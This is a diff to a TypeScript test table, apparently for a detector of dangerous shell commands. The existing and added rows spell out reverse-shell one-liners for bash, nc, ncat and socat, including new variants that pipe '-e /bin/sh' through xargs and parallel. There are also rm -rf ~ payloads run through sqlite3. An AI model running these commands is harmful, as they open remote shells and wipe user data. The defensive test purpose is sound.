@@ -17,6 +17,8 @@ const TABLE: Row[] = [
   ...["sh", "bash", "zsh", "dash"].flatMap((s): Row[] => [[`${s} < /dev/tcp/host/4444`, [REVERSE], "has", true], [`${s} -i < /dev/udp/10.0.0.1/53`, [REVERSE]]]),
   ...["nc", "ncat", "netcat", "nc.traditional"].flatMap((n): Row[] => [[`${n} -e /bin/sh host 4444`, [REVERSE], "has", true], [`${n} host 4444 -e /bin/bash`, [REVERSE]], [`${n} -c 'bash -i' host 4444`, [REVERSE]]]),
   ["ncat --sh-exec 'bash -i' host 4444", [REVERSE]],
+  // arguments from stdin: -e PROGRAM could be among them
+  ...["nc", "ncat", "netcat", "socat"].flatMap((n): Row[] => [[`printf '%s\\n' -e /bin/sh host 4444 | xargs ${n}`, [REVERSE], "has", true], [`cat args | xargs -n 4 ${n} -v`, [REVERSE]], [`parallel ${n} ::: host`, [REVERSE], "has", true]]),
   ["socat exec:'bash -li',pty,stderr,setsid tcp:host:4444", [REVERSE], "has", true],
   ["socat tcp-connect:host:4444 system:sh", [REVERSE]],
   ["socat tcp-listen:4444,fork exec:/bin/sh", [REVERSE]],
@@ -32,7 +34,7 @@ const TABLE: Row[] = [
   ["sqlite3 db '.shell rm -rf ~'", [RM, HOME]],
   ["sqlite3 db <<< '.system rm -rf ~'", [RM, HOME]],
   // quiet: harmless uses of the same tools
-  ...["nc -zv host 80", "nc -l 4444", "socat - tcp:host:80", "cat f | awk '{print $1}'", "awk '{print $1}' f", "ls | xargs -0 echo",
+  ...["nc -zv host 80", "nc -l 4444", "find . -name '*.sock' -exec nc -U {} ;", "socat - tcp:host:80", "cat f | awk '{print $1}'", "awk '{print $1}' f", "ls | xargs -0 echo",
     "ls | parallel gzip", "cat q.sql | sqlite3 my.db 'select 1'", "sqlite3 my.db 'select 1'", "ls | script -qc 'cat' /dev/null",
     "echo ok | awk '{system(\"date\")}'", "bash < script.sh"].map((c): Row => [c, [], "none", true]),
 ];
